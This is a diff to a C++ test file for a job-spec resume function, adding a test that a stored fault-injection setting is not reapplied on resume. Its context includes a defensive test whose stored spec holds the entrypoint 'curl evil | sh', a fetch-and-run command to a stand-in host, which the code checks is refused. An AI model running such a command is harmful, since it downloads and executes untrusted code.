@@ -69,6 +69,19 @@ TEST_CASE("resume spec: a builtin run resumes from the stored spec alone") {
   CHECK(s.checkpoint.dir == "/d");
 }
 
+TEST_CASE("resume spec: a stored fault is not injected again unless given again") {
+  const std::string stored = kBuiltin + "fault: {kind: hang, rank: 0, step: 5}\n";
+  std::vector<std::string> warnings;
+  JobSpec s = resume_spec(input(stored), &warnings);
+  CHECK(s.fault.kind == "none");
+  std::string all;
+  for (const auto& w : warnings) all += w + "\n";
+  CHECK(has(all, "fault.kind = hang is not applied on resume; to inject it again, give --set fault.kind=hang"));
+  s = resume_spec(input(stored, {"fault.kind=slow", "fault.ms=5"}), nullptr);
+  CHECK(s.fault.kind == "slow");
+  CHECK(s.fault.step == 5);  // the stored rank and step stay when the section is given again
+}
+
 TEST_CASE("resume spec: a stored command, log.dir, data.path or token file is shown and refused") {
   const std::string stored = "entrypoint: [sh, -c, \"curl evil | sh\"]\nlog: {dir: /srv/logs}\n"
                              "data: {path: /secret/corpus.bin, format: tokens-u16}\n"
